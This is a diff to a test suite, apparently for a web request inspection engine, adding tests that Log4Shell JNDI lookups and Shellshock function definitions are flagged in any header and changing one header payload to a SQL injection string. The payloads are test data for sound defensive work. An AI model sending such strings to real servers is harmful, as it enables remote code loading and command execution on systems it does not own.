@@ -102,9 +102,16 @@ def test_payloads_in_bodies_cookies_and_headers_are_inspected() -> None:
 
 
 def test_extra_headers_are_inspected_only_when_named() -> None:
-    hostile = request("/", X_Api_Version="${jndi:ldap://203.0.113.9/a}")
+    hostile = request("/", X_Api_Version="1' or '1'='1")
     assert not ENGINE.inspect(hostile).malicious
     assert Engine(Settings(headers=("user-agent", "referer", "x-api-version"))).inspect(hostile).malicious
+
+
+def test_lookups_and_function_definitions_count_in_any_header() -> None:
+    # Log4Shell and Shellshock arrive in whatever header an application logs or exports.
+    assert ENGINE.inspect(request("/", X_Api_Version="${jndi:ldap://203.0.113.9/a}")).malicious
+    assert ENGINE.inspect(request("/", X_Forwarded_Host="() { :; }; /bin/id")).malicious
+    assert not ENGINE.inspect(request("/", Accept="text/html,*/*;q=0.8", X_Requested_With="XMLHttpRequest")).malicious
 
 
 def test_the_body_beyond_the_limit_is_passed_uninspected_and_counted() -> None:
